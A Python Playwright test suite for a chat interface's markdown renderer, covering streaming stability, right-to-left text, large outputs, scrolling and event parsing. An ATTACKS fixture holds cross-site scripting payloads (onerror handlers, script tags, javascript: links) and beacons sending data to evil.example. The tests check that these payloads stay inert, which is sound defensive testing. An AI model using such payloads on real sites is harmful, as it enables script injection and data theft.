"""Models' texts on the page: steady while they are written, the same in the end, and harmless whatever is in them."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import quote

import pytest
from desk import Desk
from playwright.sync_api import Page, expect
from workdir import Upstream

SAMPLE = """# Heading

A paragraph with **strong**, *emphasis*, `code with * in it`, ~~old~~ and a [link](https://example.org/a_(b)).
It goes on here: 2 * 3 * 4, snake_case_name, $__timeFilter and a\\*b.

1. first
2. second with `x`
   - inner **one**
   - inner two

   more of the second

10) another list

- item
- [ ] task
***
> quoted *text*
> goes on

| a | `b` |
|---|:-:|
| 1 | **2** |
| 3 | x \\| y |

```python
def f(x):
    # a comment with `ticks` and ** stars
    return "`" + x
```

~~~
```
not a fence
```
~~~

#hashtag is text. 3 apples. ****

Ends with a fence that is never closed:

```sql
SELECT 1 -- one
"""
#: Draws a text piece by piece, and whole; returns what came of it at each prefix.
DRAW = """
async ({ text, step, from }) => {
    const { prose } = await import('/page/files/prose.js');
    const growing = document.createElement('div');
    const types = [], firsts = new Set();
    let inClosed = false;
    for (let end = from; end < text.length; end += step) {
        prose(growing, { text: text.slice(0, end), done: false });
        types.push([...growing.children].map((node) => node.tagName));
        if (growing.children.length > 2) firsts.add(growing.children[0]);
    }
    prose(growing, { text, done: true });
    const whole = document.createElement('div');
    prose(whole, { text, done: true });
    return { types, same: growing.innerHTML === whole.innerHTML, html: whole.innerHTML, grown: growing.innerHTML,
             firsts: firsts.size };
}
"""


def draw(desk: Desk, text: str, step: int = 1) -> Any:
    return desk.page.evaluate(DRAW, {"text": text, "step": step, "from": 1})


def test_a_text_that_grows_ends_as_one_that_came_whole(desk: Desk) -> None:
    for step in (1, 3, 7):
        drawn = draw(desk, SAMPLE, step)
        assert drawn["grown"] == drawn["html"]


def test_a_block_changes_its_kind_once_at_most_and_the_first_one_stays_itself(desk: Desk) -> None:
    drawn = draw(desk, SAMPLE)

    changes: dict[int, int] = {}
    before: list[str] = []
    for types in drawn["types"]:
        for i, (was, now) in enumerate(zip(before, types, strict=False)):
            changes[i] = changes.get(i, 0) + (was != now)
        before = types
    assert max(changes.values()) <= 1
    assert drawn["firsts"] == 1


def test_what_is_drawn_is_what_the_marks_say(desk: Desk) -> None:
    html = draw(desk, SAMPLE)["html"]

    for part in (
        "<h3 ", "<strong>strong</strong>", "<em>emphasis</em>", "<code>code with * in it</code>", "<del>old</del>",
        'href="https://example.org/a_(b)"', "2 * 3 * 4, snake_case_name, $__timeFilter and a*b", "<blockquote", "<hr>",
        '<td class="at-center">', "x | y", 'data-lang="python"', "```\nnot a fence\n```", "#hashtag is text",
        '<ol start="10"', "<strong>one</strong>",
    ):  # fmt: skip
        assert part in html, part


def test_code_in_a_text_from_right_to_left_runs_from_left_to_right(desk: Desk) -> None:
    places = desk.page.evaluate(
        """async (text) => {
            const { prose } = await import('/page/files/prose.js');
            const node = document.createElement('div');
            node.className = 'prose';
            document.body.append(node);
            prose(node, { text, done: true });
            const range = document.createRange();
            const code = node.querySelector('code').firstChild;
            const at = (from, to) => {
                range.setStart(code, from);
                range.setEnd(code, to);
                return range.getBoundingClientRect().x;
            };
            return { number: at(0, 3), unit: at(4, 6), direction: getComputedStyle(node.firstChild).direction };
        }""",
        "طول الموجة `450 nm` هنا",
    )

    assert places["direction"] == "rtl"
    assert places["number"] < places["unit"]


@pytest.mark.parametrize(
    "text",
    ["```js\nlet a = `x", "**bold", "a `b", "a [b](http://x", "| a |\n|-", "- ", "1", "> ", "``", "```py", "a ~~b"],
)
def test_an_open_end_shows_no_mark_while_it_is_written_and_is_left_alone_in_the_end(desk: Desk, text: str) -> None:
    shown = desk.page.evaluate(
        """async (text) => {
            const { prose } = await import('/page/files/prose.js');
            const node = document.createElement('div');
            prose(node, { text, done: false });
            return node.textContent.replace('let a = `x', '');
        }""",
        text,
    )

    assert not any(mark in shown for mark in ("**", "`", "~~", "](", "|", ">"))


ATTACKS = """<img src=x onerror="document.title='broken'"><script>document.title='broken'</script>

[a](javascript:document.title='broken') [b](data:text/html,<script>1</script>) [c](vbscript:x)
<javascript:alert(1)>

![leak](https://evil.example/?q=secret) ![x](//evil.example/y) <a href="javascript:1">z</a> [d]( java\nscript:alert(1))

<svg><image href="https://evil.example/z"/></svg><link rel=stylesheet href=https://evil.example/s.css>
<style>body{background:url(https://evil.example/c)}</style><iframe src=https://evil.example></iframe>
<base href=//evil.example>

[ref]: https://evil.example "x"
<form action=https://evil.example><button>ok</button></form>
<meta http-equiv=refresh content="0;url=https://evil.example">
"""


def test_what_a_model_writes_does_nothing(desk: Desk, upstream: Upstream) -> None:
    for model in ("fake/a", "fake/b", "fake/synth"):
        upstream.script(model, f"text={quote(ATTACKS, safe='')}")

    turn = desk.ask("Why?", "fake/a", "fake/b")

    prose = turn.locator(".answer .prose")
    expect(prose).to_contain_text("<img src=x onerror")
    expect(prose).to_contain_text("leak (image at evil.example)")
    inside = "img, script, svg, iframe, style, link, form, base, meta, button"
    assert turn.locator(".prose").locator(inside).count() == 0
    links = turn.locator(".prose a").evaluate_all("nodes => nodes.map((a) => [a.protocol, a.rel])")
    assert {tuple(link) for link in links} == {("https:", "noopener noreferrer nofollow")}
    assert desk.page.title() == "fusiontools"
    # Nothing was asked of a stranger, and the browser refused nothing: both are looked at when the test ends.


def test_a_name_or_a_failure_is_text_too(desk: Desk) -> None:
    words = quote("<img src=x onerror=alert(1)> no", safe="")

    desk.ask("Why?", "fake/a", f"fake/b+wording=400,{words}")

    fault = desk.page.locator(".column .fault")
    expect(fault).to_contain_text("<img src=x onerror=alert(1)>")
    assert fault.locator("img").count() == 0


@contextmanager
def main_thread(page: Page) -> Iterator[list[float]]:
    """Yield the tasks of the page's main thread, in ms, once the block has ended.

    Each is what the thread itself has worked, not what the clock says: whoever else works on this machine is no part
    of it. No task can be seen from within the page for less than the clock's time.
    """
    browser = page.context.browser
    assert browser is not None
    tasks: list[float] = []
    browser.start_tracing(page=page, categories=["toplevel"])
    try:
        yield tasks
    finally:
        events = json.loads(browser.stop_tracing())["traceEvents"]
    threads = {
        (event["pid"], event["tid"])
        for event in events
        if event["name"] == "thread_name" and event["args"]["name"] == "CrRendererMain"
    }
    mine = [event for event in events if (event["pid"], event["tid"]) in threads]
    tasks += [event["tdur"] / 1000 for event in mine if event["name"].endswith("::RunTask") and "tdur" in event]


def test_four_long_columns_never_freeze_the_page(desk: Desk) -> None:
    members = [f"fake/{name}+chunks=15000" for name in "abcd"]

    with main_thread(desk.page) as tasks:
        desk.ask("Why?", *members, Chain="panel | vote")

    assert (
        desk.page.locator(".column .prose").evaluate_all("nodes => nodes.map((n) => n.textContent.length)")
        == [60_000] * 4
    )
    print("TASKS", max(tasks), sum(tasks), len(tasks))
    assert sum(tasks) > 50, "nothing was measured"
    assert max(tasks) < 200


def test_five_megabytes_are_shown_in_part_and_the_rest_on_demand(desk: Desk) -> None:
    desk.ask("Why?", "fake/a+big=5000000", "fake/b", Chain="panel | vote")

    column = desk.column("fake/a+big=5000000")
    expect(column.locator("summary")).to_have_text("4,900,000 more characters, as plain text")
    column.locator("summary").click()
    expect(column.locator("details pre")).to_be_visible()


def test_a_reader_who_scrolls_up_stays_there_in_that_column_alone(desk: Desk) -> None:
    members = ("fake/a+chunks=4000+itl=0.004", "fake/b+chunks=4000+itl=0.004")
    desk.ask("Why?", *members, wait=False)
    bodies = [desk.column(name).locator(".body") for name in members]
    height = "(n) => n.scrollHeight > n.clientHeight + 200"
    for _ in range(200):
        if all(body.evaluate(height) for body in bodies):
            break
        time.sleep(0.05)

    bodies[0].hover()
    desk.page.mouse.wheel(0, -150)
    desk.page.wait_for_timeout(400)
    first, second = (body.evaluate("(n) => n.scrollHeight - n.scrollTop - n.clientHeight") for body in bodies)
    assert first > 100
    assert second < 60
    desk.page.keyboard.press("Escape")


#: Hears 5,000 pieces of a text, as many at once as a chunk of the network holds; returns how often the page was drawn.
MANY_PIECES = """
async () => {
    const { EventReader } = await import('/page/files/api.js');
    const { onChange, state, update } = await import('/page/files/state.js');
    const { begin, take } = await import('/page/files/turn.js');
    const more = { thread: 't', recipe: 'recipe', chain: '', question: 'Why?' };
    const turn = begin({ messages: [], fusion: {} }, more);
    let drawn = -1;  // a listener is called as it is taken on, too
    onChange(() => (drawn += 1));
    update(() => state.turns.push(turn));
    const reader = new EventReader((event) => update(() => take(turn, event)));
    const encoder = new TextEncoder();
    let frames = 0;
    for (let i = 0; i < 5000; i += 100) {
        const lines = [];
        for (let n = i; n < i + 100; n += 1) {
            lines.push('data: ' + JSON.stringify({ type: 'text', model: 'm', layer: 1, text: `word${n} ` }));
        }
        reader.feed(encoder.encode(lines.join('\\n\\n') + '\\n\\n'));
        if (i % 1000) continue;
        await new Promise(requestAnimationFrame);
        frames += 1;
    }
    await new Promise(requestAnimationFrame);
    const shown = document.querySelector('.column .prose').textContent;
    return { drawn, frames: frames + 1, ends: shown.trimEnd().endsWith('word4999') };
}
"""


def test_what_is_drawn_follows_the_frames_and_not_the_pieces(desk: Desk) -> None:
    seen = desk.page.evaluate(MANY_PIECES)

    assert seen["ends"]  # one frame after the last byte all of it stands there
    assert seen["drawn"] <= seen["frames"]


@pytest.mark.parametrize("cut", [1, 2, 3])
def test_events_are_read_however_the_bytes_are_cut(desk: Desk, cut: int) -> None:
    found = desk.page.evaluate(
        """async (cut) => {
            const { EventReader } = await import('/page/files/api.js');
            const heard = [];
            const reader = new EventReader((event) => heard.push(event.text));
            const sent = 'data: {"text":"Grüße 世界 🌍"}\\n\\n: alive\\ndata: {"text":"b"}\\n\\ndata: [DONE]\\n\\n';
            const bytes = new TextEncoder().encode(sent);
            for (let at = 0; at < bytes.length; at += cut) reader.feed(bytes.slice(at, at + cut));
            reader.finish();
            return heard;
        }""",
        cut,
    )

    assert found == ["Grüße 世界 🌍", "b"]


def test_a_stream_that_breaks_is_no_answer(desk: Desk, upstream: Upstream) -> None:
    broke = desk.page.evaluate(
        """async () => {
            const { EventReader } = await import('/page/files/api.js');
            const reader = new EventReader(() => {});
            reader.feed(new TextEncoder().encode('data: {"text":"a"}\\n\\n'));
            try { reader.finish(); } catch (error) { return error.message; }
        }"""
    )

    assert "broke" in broke
